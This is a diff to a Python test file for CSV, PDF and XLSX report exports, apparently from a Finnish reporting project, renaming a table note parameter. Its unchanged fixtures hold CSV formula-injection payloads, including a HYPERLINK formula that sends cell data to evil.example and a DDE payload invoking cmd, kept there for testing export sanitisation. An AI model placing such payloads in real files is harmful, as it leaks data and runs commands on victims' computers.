@@ -14,7 +14,7 @@ from openpyxl import load_workbook
 from pypdf import PdfReader
 
 from koonto.reporting.domain.errors import QueryErrors
-from koonto.reporting.domain.report import COUNT, DAYS, EUR, HOURS, PERCENT, Table
+from koonto.reporting.domain.report import COUNT, DAYS, EUR, HOURS, PERCENT, Note, Table
 from koonto.reporting.exports.csv import build_csv, check_dialect
 from koonto.reporting.exports.pdf import build_pdf
 from koonto.reporting.exports.xlsx import build_xlsx
@@ -150,7 +150,8 @@ EVIL = ['=HYPERLINK("http://evil.example/?d="&A1,"Avaa")', "+358401234567", "-2+
 EVIL_TABLES = [
     Table("hakemukset", "Hakemukset rahoitushauittain", ["Rahoitushaku", "Hakemuksia", "Haettu, €"],
           [[name, -3, -1500.5] for name in EVIL]),
-    Table("ideat_kunnittain", "=Kunnat", ["@Kunta", "Ideoita"], [["=cmd|' /C calc'!A0", 2]], note="-huom"),
+    Table("ideat_kunnittain", "=Kunnat", ["@Kunta", "Ideoita"], [["=cmd|' /C calc'!A0", 2]],
+          note_message=Note("-huom")),
 ]
 EVIL_META = [("Kunta", "=1+2"), ("+Luotu", "29.11.2026 klo 14.30")]
 
